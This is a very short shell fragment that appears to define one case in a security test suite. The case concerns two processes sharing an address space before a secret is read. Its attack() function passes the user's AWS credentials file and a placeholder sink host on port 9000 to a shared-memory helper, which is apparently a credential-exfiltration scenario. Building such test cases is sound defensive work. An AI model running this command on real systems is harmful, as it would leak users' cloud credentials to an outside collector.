# SPDX-License-Identifier: Apache-2.0
TITLE="two processes in one address space, mapped before the secret is read"
ROW="P01 E21"
attack() { "$PROVOKE/shm" twin "$HOME/.aws/credentials" "$SINK4" 9000; }
